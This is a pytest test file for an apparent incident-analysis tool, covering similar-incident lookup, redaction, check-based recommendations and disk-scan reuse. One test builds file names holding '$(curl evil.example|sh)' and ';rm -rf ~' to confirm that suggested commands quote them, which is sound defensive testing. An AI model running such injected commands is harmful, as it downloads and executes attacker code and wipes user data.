import time
from datetime import timedelta

import pytest
from django.utils import timezone

from tests.intelligence.conftest import snapshot
from vigil.alerts.models import Incident
from vigil.intelligence import disk, similarity
from vigil.intelligence.providers.base import AnalysisContext
from vigil.intelligence.providers.local import LocalProvider, disk_report_findings

pytestmark = pytest.mark.django_db


def past(title, note, days_ago, labels=None, status="resolved"):
    return Incident.objects.create(
        title=title,
        source="alertmanager",
        group_key=f"{title}-{days_ago}",
        labels=labels or {},
        status=status,
        resolution_note=note,
        resolved_at=timezone.now() - timedelta(days=days_ago),
    )


def analyze(snap, checks=(), scope="incident"):
    return LocalProvider().analyze(AnalysisContext.build(snap, list(checks), scope))


def test_similar_past_incidents_come_with_how_they_were_resolved():
    match = past(
        "Disk almost full on web-1",
        "Rotated nginx logs and ran journalctl --vacuum-size=500M",
        3,
        {"alertname": "DiskFull", "instance": "web-1"},
    )
    past("Certificate expires soon for api.example.com", "Renewed with certbot", 5)
    past("High latency on checkout", "Scaled the pool", 1, {"alertname": "Latency"})

    found = similarity.similar_incidents(snapshot())

    assert [item.id for item in found] == [match.pk]
    assert found[0].score > 0.5
    result = analyze(snapshot())
    [similar] = [r for r in result.recommendations if r.title.startswith("Similar to")]
    assert similar.title == f"Similar to incident #{match.pk}: Disk almost full on web-1"
    assert "journalctl --vacuum-size=500M" in similar.detail


def test_similarity_looks_only_at_resolved_incidents_and_not_at_itself(settings):
    current = past("Disk almost full on web-1", "", 0, status="open")
    past("Disk almost full on web-2", "still open", 1, status="acknowledged")

    assert similarity.similar_incidents(snapshot(id=current.pk)) == []


def test_similarity_is_bounded_to_the_most_recent_incidents(settings):
    old = past("Disk almost full on web-1", "old fix", 300)
    past("Unrelated backup failure", "rerun", 1)
    settings.INTELLIGENCE_SIMILAR_CORPUS = 1

    assert similarity.similar_incidents(snapshot()) == []
    settings.INTELLIGENCE_SIMILAR_CORPUS = 2
    assert [item.id for item in similarity.similar_incidents(snapshot())] == [old.pk]


def test_the_corpus_is_read_once_per_reuse_interval(settings, django_assert_num_queries):
    settings.INTELLIGENCE_REUSE_SECONDS = 60
    first = past("Disk almost full on web-1", "old fix", 3)
    assert [item.id for item in similarity.similar_incidents(snapshot())] == [first.pk]

    newer = past("Disk almost full on web-1 again", "new fix", 1)
    with django_assert_num_queries(0):  # within the interval: the corpus already read
        assert [item.id for item in similarity.similar_incidents(snapshot())] == [first.pk]
    # An analysis of one of the corpus' own incidents never finds itself.
    assert similarity.similar_incidents(snapshot(id=first.pk)) == []

    settings.INTELLIGENCE_REUSE_SECONDS = 0  # read for every analysis
    found = similarity.similar_incidents(snapshot())
    assert {item.id for item in found} == {first.pk, newer.pk}


def test_resolution_notes_are_redacted_before_they_are_shown():
    past("Disk almost full on web-1", "used password=Sup3rS3cretPass to log in", 2)

    [found] = similarity.similar_incidents(snapshot())

    assert "Sup3rS3cretPass" not in found.resolution_note


def test_rank_orders_by_cosine_similarity():
    ranked = similarity.rank(
        "redis memory high", [("a", "disk full"), ("b", "redis memory usage"), ("c", "redis")]
    )
    assert [key for key, _ in ranked] == ["b", "c", "a"]
    assert ranked[-1][1] == 0.0


def test_failing_memory_check_on_this_host_lists_top_processes():
    check = {"check": "memory", "status": "warning", "message": "RAM 93% used"}

    result = analyze({"title": "High memory", "alerts": []}, [check])

    [memory] = [r for r in result.recommendations if r.title.startswith("Memory ")]
    assert memory.priority == "high"
    assert "pid" in memory.detail and memory.commands[1] == "free -h"


def test_other_failing_checks_become_recommendations_and_ok_ones_do_not():
    checks = [
        {"check": "http", "target": "https://shop.example.com", "status": "critical",
         "message": "HTTP 502"},
        {"check": "tls", "target": "shop.example.com", "status": "ok", "message": "fine"},
    ]  # fmt: skip

    result = analyze({"title": "Shop down", "alerts": []}, checks)

    titles = [r.title for r in result.recommendations]
    assert titles[0] == "http check is critical on https://shop.example.com"
    assert result.recommendations[0].priority == "critical"
    assert not any("tls" in title for title in titles)


def test_system_scope_scans_the_configured_roots(tmp_path, settings):
    root = tmp_path / "srv"
    (root / "big").mkdir(parents=True)
    (root / "big" / "blob").write_bytes(b"x" * 50_000)
    settings.ALLOWED_FILESYSTEM_ROOTS = [str(tmp_path)]
    settings.INTELLIGENCE_SCAN_ROOTS = [str(root)]

    result = analyze({"id": None, "title": "System health", "alerts": []}, scope="system")

    [fills] = [r for r in result.recommendations if r.title.startswith("See what fills")]
    assert str(root.resolve() / "big" / "blob") in fills.detail
    assert fills.commands[0].startswith(f"du -xh --max-depth=2 {root.resolve()}")
    assert result.summary.startswith("System diagnosis")


def test_nothing_matching_still_answers():
    result = analyze({"title": "Something odd", "alerts": []})

    assert [r.title for r in result.recommendations] == ["No rule matched this incident"]


def test_a_local_disk_check_on_a_path_outside_the_roots_scans_every_root(tmp_path, settings):
    root = tmp_path / "var-log"
    root.mkdir()
    (root / "huge.log").write_bytes(b"x" * 30_000)
    settings.ALLOWED_FILESYSTEM_ROOTS = [str(tmp_path)]
    settings.INTELLIGENCE_SCAN_ROOTS = [str(root)]
    # As the checkers app reports it: no host (this machine), target "/".
    check = {"check": "disk", "name": "disk", "target": "/", "status": "critical",
             "message": "/ is 96% full", "metrics": {}, "thresholds": {}}  # fmt: skip

    result = analyze({"title": "Disk", "alerts": []}, [check])

    [fills] = [r for r in result.recommendations if r.title.startswith("See what fills")]
    assert fills.priority == "critical"
    assert str(root.resolve() / "huge.log") in fills.detail


def _report(**fields):
    base = {"root": "/var/log", "total": 100, "used": 90, "free": 10, "percent_used": 90.0}
    return disk.DiskReport(**{**base, **fields})


def test_old_logs_and_caches_are_mentioned_only_when_they_matter():
    log = disk.Entry("/var/log/app/app.log.9.gz", 30 * 2**20, 0)
    apt = disk.CacheHint("/var/cache/apt/archives", "APT package cache", "sudo apt-get clean")
    big = _report(
        old_logs=[log],
        old_logs_bytes=30 * 2**20,
        caches=[disk.CacheHint(apt.path, apt.label, apt.command, 2 * 2**30)],
    )
    small = _report(
        old_logs=[log],
        old_logs_bytes=2**20,
        caches=[disk.CacheHint(apt.path, apt.label, apt.command, 2**20)],
    )

    found = {r.title: r for r in disk_report_findings(big, "high")}
    assert found["Remove or compress old logs under /var/log"].commands == [
        "find /var/log -xdev -type f -mtime +14 \\( -name '*.gz' -o -name '*.log.*' "
        "-o -name '*.old' \\) -print"
    ]
    assert found["Trim the APT package cache (2.0 GiB)"].commands == ["sudo apt-get clean"]
    assert disk_report_findings(small, "high") == []


def test_hostile_names_are_quoted_in_suggested_commands():
    hostile = "/srv/$(curl evil.example|sh)"
    report = _report(
        root="/srv",
        largest_dirs=[disk.Entry(hostile, 5000)],
        largest_files=[disk.Entry(hostile + "/x;rm -rf ~", 5000)],
    )

    [fills] = disk_report_findings(report, "high")

    assert fills.commands[1] == "ls -lh '/srv/$(curl evil.example|sh)/x;rm -rf ~'"


def _disk_tree(tmp_path, settings):
    root = tmp_path / "srv"
    root.mkdir()
    (root / "first.bin").write_bytes(b"x" * 40_000)
    settings.ALLOWED_FILESYSTEM_ROOTS = [str(tmp_path)]
    settings.INTELLIGENCE_SCAN_ROOTS = [str(root)]
    return root


def _fills(result) -> str:
    [fills] = [r for r in result.recommendations if r.title.startswith("See what fills")]
    return fills.detail


def test_a_burst_of_analyses_shares_one_disk_walk_and_says_so(tmp_path, settings):
    root = _disk_tree(tmp_path, settings)
    settings.INTELLIGENCE_REUSE_SECONDS = 60

    first = analyze({"title": "Disk", "alerts": []})
    (root / "second.bin").write_bytes(b"y" * 80_000)
    again = analyze({"title": "Disk", "alerts": []})

    # The second analysis did not walk the disk: the file written since is not in it.
    assert "second.bin" not in _fills(again)
    assert _fills(again) == _fills(first)
    [taken] = first.measurements
    [reused] = again.measurements
    assert taken["what"] == f"disk {root.resolve()}"
    assert taken["reused"] is False and reused["reused"] is True
    assert reused["measured_at"] == taken["measured_at"]
    assert 0 <= reused["age_seconds"] < 60


def test_after_the_reuse_time_the_disk_is_walked_again(tmp_path, settings):
    root = _disk_tree(tmp_path, settings)
    settings.INTELLIGENCE_REUSE_SECONDS = 0.05

    analyze({"title": "Disk", "alerts": []})
    (root / "second.bin").write_bytes(b"y" * 80_000)
    time.sleep(0.06)
    later = analyze({"title": "Disk", "alerts": []})

    assert "second.bin" in _fills(later)
    assert later.measurements[0]["reused"] is False


def test_reuse_zero_measures_every_time(tmp_path, settings):
    root = _disk_tree(tmp_path, settings)
    settings.INTELLIGENCE_REUSE_SECONDS = 0

    analyze({"title": "Disk", "alerts": []})
    (root / "second.bin").write_bytes(b"y" * 80_000)

    assert "second.bin" in _fills(analyze({"title": "Disk", "alerts": []}))


def test_process_list_is_shared_within_the_reuse_time(settings):
    settings.INTELLIGENCE_REUSE_SECONDS = 60
    check = {"check": "memory", "status": "warning", "message": "RAM 93% used"}

    first = analyze({"title": "High memory", "alerts": []}, [check])
    again = analyze({"title": "High memory", "alerts": []}, [check])

    assert [m["reused"] for m in first.measurements] == [False]
    assert [m["reused"] for m in again.measurements] == [True]
    assert again.measurements[0]["what"] == "memory and processes"
